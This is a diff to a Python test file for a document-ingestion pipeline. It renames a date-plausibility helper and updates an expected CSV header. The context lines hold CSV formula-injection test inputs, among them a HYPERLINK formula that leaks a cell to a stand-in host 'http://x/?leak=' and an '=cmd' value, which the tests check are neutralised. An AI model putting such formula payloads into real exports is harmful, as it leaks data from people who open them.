@@ -140,7 +140,7 @@ def test_csv_keeps_values_and_numbers(attack):
     raw = (out / "coverage_document.csv").read_bytes().decode("utf-8-sig")
     assert '"\'=HYPERLINK(""http://x/?leak=""&A1,""click me"")"' in raw
     compare = next(out.glob("compare_*.csv")).read_bytes().decode("utf-8-sig")
-    assert compare.startswith("node,'=cmd")
+    assert compare.startswith("node,node_name,node_name_zh,'=cmd")
     docs = pio.read_csv(out / "coverage_document.csv").set_index("doc_id")
     assert docs.loc["a.txt", "title"] == HYPERLINK and docs.loc["-b.txt", "region"] == EVIL_REGION
     assert docs.loc["@SUM(1+1).txt", "title"] == "+1+2" and docs.loc["c.txt", "title"] == "@evil"
@@ -360,13 +360,13 @@ def test_implausible_dates_are_reported_and_ignored(attack):
 def test_dates_are_judged_by_the_year_the_temporal_view_reads():
     import datetime
 
-    from pipeline.ingest import plausible_date
+    from pipeline.ingest import plausible_year
 
     next_year = datetime.date.today().year + 1
     for date in ("2020-01-01", "1900", f"{next_year}-12-31", "2020年5月", "", "n.d.", "nan"):
-        assert plausible_date(date), date
+        assert plausible_year(date), date
     for date in ("0001-01-01", "9999-12-31", "1899-12-31", f"{next_year + 1}", "-999-01-01", "1e3", "inf"):
-        assert not plausible_date(date), date
+        assert not plausible_year(date), date
 
 
 # 8. symbolic links, no file content in errors ------------------------------------------------------------
